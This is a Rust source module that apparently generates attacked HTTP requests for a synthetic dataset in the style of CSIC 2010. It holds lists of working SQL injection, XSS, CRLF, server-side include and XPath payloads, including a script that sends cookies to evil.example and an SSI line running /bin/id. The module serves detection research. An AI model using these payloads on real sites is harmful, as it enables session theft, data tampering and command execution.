//! What attackers put into a value, in the kinds that CSIC 2010 names, for sites that have their own other
//! attacks besides. None of it is how the Spanish shop is attacked.

use fastrand::Rng;

use super::attack::payload;
use super::request::{Request, pick};

/// The kinds of attack, as they are reported.
pub(super) const KINDS: [&str; 6] = [
    "SQL injection",
    "script",
    "CRLF injection",
    "server-side include",
    "XPath injection",
    "buffer overflow",
];

const SQL: [&str; 20] = [
    "'",
    "' or ''='",
    "1' and 1=(select count(*) from tabname); --",
    "') or ('x'='x",
    "' OR username IS NOT NULL OR username = '",
    "1 or 1=1#",
    "'; update utenti set ruolo='admin' where login='prova'--",
    "' having 1=1--",
    "' group by polizza.id having 1=1--",
    "0 UNION SELECT NULL,NULL,table_name FROM information_schema.tables",
    "1) ORDER BY 12-- -",
    "' and substring(version(),1,1)='8",
    "1;SELECT pg_sleep(8)--",
    "'||(select utl_inaddr.get_host_name('x') from dual)||'",
    "1 AND (SELECT 7 FROM(SELECT COUNT(*),CONCAT(0x7e,FLOOR(RAND(0)*2))x GROUP BY x)a)",
    "a' like 'a",
    "1/**/or/**/2>1",
    "\\' or 1=1 -- ",
    "1 RLIKE (SELECT CASE WHEN 1=1 THEN 1 ELSE 0x28 END)",
    "' sounds like 'x",
];
const SCRIPT: [&str; 14] = [
    "<script>document.location='//evil.example/?'+document.cookie</script>",
    "<ScRiPt >prompt(981)</sCrIpT>",
    "\" onmouseover=\"alert(1)",
    "' onfocus=alert(1) autofocus='",
    "<body onload=alert('x')>",
    "<iframe src=javascript:alert(1)>",
    "</title><script>alert(1)</script>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<details open ontoggle=confirm(1)>",
    "\"-alert(1)-\"",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mi xlink:href=\"javascript:alert(1)\">",
    "<b>prova</b>",
];
const LINES: [&str; 7] = [
    "\r\nLocation: http://evil.example/",
    "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n",
    "x\nSet-Cookie: JSESSIONID=0000",
    "%0d%0aX-Cache: x",
    "%E5%98%8A%E5%98%8DLocation:evil.example",
    "x\rSet-Cookie: a=b",
    "\r\nBcc: all@evil.example",
];
const INCLUDE: [&str; 6] = [
    "<!--#exec cmd=\"/bin/id\" -->",
    "<!--#echo var=\"DATE_LOCAL\" -->",
    "<!--#include virtual=\"/WEB-INF/web.xml\"-->",
    "<!--#printenv-->",
    "<!--#config errmsg=\"x\"-->",
    "<esi:include src=\"http://evil.example/x\"/>",
];
const XPATH: [&str; 8] = [
    "' or 1=1 or ''='",
    "x' or name()='username' or 'x'='y",
    "'] | //user/* | //x['",
    "' and count(/*)=1 and '1'='1",
    "1 or position()=1",
    "' or string-length(//password[1])>3 or 'a'='b",
    "*|/*",
    "count(/child::node())",
];

/// The value with something of that kind in it.
pub(super) fn value(random: &mut Rng, kind: usize, value: &str) -> String {
    match kind {
        0 => payload(random, &SQL, value),
        1 => payload(random, &SCRIPT, value),
        2 => payload(random, &LINES, value),
        3 => payload(random, &INCLUDE, value),
        4 => payload(random, &XPATH, value),
        _ => {
            let unit = pick(random, &["A", "9", "%n", "../", "A%s", "é", "\u{1}", "0,"]);
            unit.repeat(random.usize(250..3_500) / unit.len())
        }
    }
}

/// Does that to one of the request's values.
pub(super) fn make(random: &mut Rng, request: &mut Request, kind: usize) -> Option<()> {
    let (_, text) = request.any(random)?;
    *text = value(random, kind, text);
    Some(())
}

/// Changes one value of which something can be made, by its name and what it is.
pub(super) fn change(
    random: &mut Rng,
    request: &mut Request,
    make: impl Fn(&mut Rng, &str, &str) -> Option<String>,
) -> Option<()> {
    let count = request.query.len();
    let first = random.usize(..count.max(1));
    (first..count).chain(0..first).find_map(|place| {
        let (name, value) = request.query.get_mut(place)?;
        *value = make(random, name, value)?;
        Some(())
    })
}
